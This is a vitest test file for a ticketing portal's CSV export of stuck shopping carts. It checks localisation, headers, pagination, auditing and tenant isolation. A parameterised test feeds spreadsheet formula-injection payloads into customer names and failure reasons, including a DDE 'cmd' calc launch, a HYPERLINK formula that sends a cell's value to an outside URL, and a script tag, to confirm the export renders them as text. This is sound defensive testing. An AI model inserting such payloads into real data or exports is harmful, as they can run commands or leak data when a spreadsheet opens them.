import { afterAll, beforeAll, expect, test } from 'vitest';
import type { TestAdministrator } from '#test/portal/administrators.ts';
import { type PortalTest, portalTest } from '#test/portal/portal.ts';
import { insertStuckCarts } from '#test/portal/stuck-carts.ts';
import { newPerson } from '#test/system/world.ts';

let portal: PortalTest;
let clerk: TestAdministrator;
beforeAll(async () => {
  portal = await portalTest();
  clerk = await portal.administrator({ rights: ['stucked-carts'] });
});
afterAll(() => portal[Symbol.asyncDispose]());

const exported = (query: object = {}, locale = 'fr-FR') =>
  portal.ask('GET /Purchase/StuckCartsExport', { query, token: clerk.token, locale });
/** Returns the cells by line, as a spreadsheet of the language reads them. */
async function tableOf(query: object = {}, locale = 'fr-FR'): Promise<string[][]> {
  const { body } = await exported(query, locale);
  return readTable(String(body).replace('\uFEFF', ''), locale === 'en-GB' ? ',' : ';');
}

function readTable(text: string, divider: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(
    new RegExp(`(?:"((?:[^"]|"")*)"|([^"\\r\\n${divider}]*))(${divider}|\\r\\n|$)`, 'g'),
  )) {
    if (end === '' && !quoted && !plain) break;
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') lines.push([]);
  }
  return lines.filter((line) => line.length > 0);
}

/** Creates a stuck cart of a customer with a last name and a failure. */
async function cartOf(lastName: string, failure = 'refused: no'): Promise<string> {
  const person = await newPerson(portal, 'aqua-rivage');
  await portal.sql('update portal.customer set last_name = $2 where id = $1', [person.userId, lastName]);
  const [cartId = ''] = await insertStuckCarts({ portal }, 1);
  await portal.sql(`update portal.cart set user_id = $2, sale_failure = $3, state = 'stuck' where id = $1`, [
    cartId,
    person.userId,
    failure,
  ]);
  return cartId;
}

test('the export of stuck carts is a spreadsheet file in the requested language', async () => {
  const cartId = await cartOf('Morel');
  const answer = await exported();
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(
      /^attachment; filename="aqua-rivage-stuck-carts-[\d-]+\.csv"$/,
    ),
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
  });
  expect(
    Buffer.from(answer.body as never)
      .subarray(0, 3)
      .toString('hex'),
  ).toBe('efbbbf');

  const [french, english, german] = await Promise.all([
    tableOf({ search: cartId }),
    tableOf({ search: cartId }, 'en-GB'),
    tableOf({ search: cartId }, 'de-DE'),
  ]);
  expect(french).toHaveLength(2);
  expect(french[0]).toEqual(expect.arrayContaining(['Panier', 'Date de vente', 'Montant payé']));
  expect(french[1]).toEqual(
    expect.arrayContaining([cartId, 'Entrée', '1 × 12,50', '12,51', 'La billetterie a refusé la vente']),
  );
  expect(english[1]).toEqual(expect.arrayContaining([cartId, '1 × 12.50', '12.51']));
  expect(german[1]).toEqual(expect.arrayContaining([cartId, 'Blockiert', '12,51']));
});

test.each([
  '=1+1',
  '+33612345678',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://example.com/?"&A1;"x")',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
  'avec ; et , et "guillemets"',
  'deux\nlignes',
  'deux\r\nautres',
  '<script>alert(1)</script>',
])('the export of stuck carts contains a name like %j as text in one cell', async (payload) => {
  const cartId = await cartOf(payload, `refused: ${payload}`);
  const table = await tableOf({ search: cartId });
  expect(table).toHaveLength(2);
  expect(new Set(table.map((line) => line.length)).size).toBe(1);
  const name = table[1]?.[2] ?? '';
  expect(name.endsWith(payload)).toBe(true);
  // The first name precedes the payload in the cell.
  expect(name).not.toMatch(/^[=+\-@\t\r]/);
  expect(table[1]).toContain(`refused: ${payload}`);
});

test('the export of stuck carts contains a cell that begins like a formula as text', async () => {
  const cartId = await cartOf('Morel', '=HYPERLINK("https://example.com")');
  expect((await tableOf({ search: cartId }))[1]).toContain(`'=HYPERLINK("https://example.com")`);
});

test('the export of stuck carts has every cart of the filter once and in order, over many pages, with an audit entry', async () => {
  const ids = await insertStuckCarts({ portal }, 1203, { cents: 50_000 });
  const table = await tableOf({ search: 'jeanne@example.com', sort: 'highest' });
  const found = table.slice(1).map(([id]) => id);
  expect(new Set(found)).toEqual(new Set(ids));
  expect(found).toHaveLength(1203);
  const amounts = table.slice(1).map((line) => Number(line[9]?.replace(',', '.')));
  expect(amounts).toEqual(amounts.toSorted((a, b) => b - a));
  const [entry] = await portal.sql(
    `select administrator_email, subject, changes from portal.audit_entry where action = 'carts.exported' order by at desc limit 1`,
  );
  expect(entry).toEqual({
    administrator_email: clerk.email,
    subject: 'stuck',
    changes: [{ field: 'search', to: 'jeanne@example.com' }],
  });
});

test('the export of stuck carts has no cart of another tenant', async () => {
  const [foreign = ''] = await insertStuckCarts({ portal, tenant: 'patinoire-givre' }, 1);
  expect(await tableOf({ search: foreign })).toHaveLength(1);
});
